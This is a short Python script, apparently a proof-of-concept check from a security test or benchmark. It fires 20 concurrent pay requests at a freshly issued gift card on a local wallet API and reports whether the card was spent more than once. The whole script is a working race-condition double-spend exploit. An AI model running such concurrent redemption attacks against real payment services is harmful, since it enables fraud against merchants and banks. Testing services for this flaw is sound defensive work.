import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


from concurrent.futures import ThreadPoolExecutor

B = {"Authorization": "Bearer " + os.environ["WALLET_BANK_KEY"]}
a = {"Authorization": "Bearer " + c.post("/shops", json={"name": f"S{time.time_ns()}"}, headers=B).json()["key"]}
hit = False
for _ in range(8):
    k = c.post("/cards", json={"cents": 1000}, headers=a).json()["code"]
    with ThreadPoolExecutor(20) as ex:
        r = list(ex.map(lambda _: c.post(f"/cards/{k}/pay", json={"cents": 1000}, headers=a).status_code, range(20)))
    if r.count(200) > 1:
        hit = True
        break
done(hit)
